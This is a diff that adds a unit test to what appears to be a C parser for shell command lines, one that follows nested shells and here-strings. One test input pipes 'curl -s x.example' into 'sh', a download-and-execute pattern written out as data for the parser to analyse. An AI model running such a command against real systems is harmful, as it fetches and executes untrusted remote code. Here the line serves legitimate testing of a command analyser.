@@ -1319,6 +1319,28 @@ test_stdin_shells (void **state)
 }
 
 static void
+test_stdin_script_does_not_reread (void **state)
+{
+    (void) state;
+    //  The script's own commands do not read the script again: a shell in
+    //  it reads from the pipe, not the here-string (was "nesting too deep")
+    shell_t *sh = s_ok ("sh <<< 'curl -s x.example | sh'");
+    assert_int_equal (shell_count (sh), 3);
+    const shell_cmd_t *inner = s_must (sh, "sh", "sh <<");
+    assert_int_equal (inner->redirs_count, 0);
+    assert_ptr_equal (shell_upstream (sh, inner), s_must (sh, "curl", "sh <<"));
+    shell_destroy (&sh);
+    sh = s_ok ("bash <<'EOF'\necho ls | bash\nEOF\n");
+    assert_int_equal (shell_count (sh), 3);
+    shell_destroy (&sh);
+    //  A -c shell keeps its stdin for the commands it runs
+    sh = s_ok ("bash -c 'sh' <<< 'id'");
+    assert_int_equal (s_must (sh, "sh", "bash -c")->redirs_count, 1);
+    assert_non_null (s_must (sh, "id", "bash -c,sh <<"));
+    shell_destroy (&sh);
+}
+
+static void
 test_busybox (void **state)
 {
     (void) state;
@@ -1939,6 +1961,7 @@ main (void)
         cmocka_unit_test (test_shell_dash_c),
         cmocka_unit_test (test_shell_script_and_stdin),
         cmocka_unit_test (test_stdin_shells),
+        cmocka_unit_test (test_stdin_script_does_not_reread),
         cmocka_unit_test (test_busybox),
         cmocka_unit_test (test_eval),
         cmocka_unit_test (test_su_runuser),
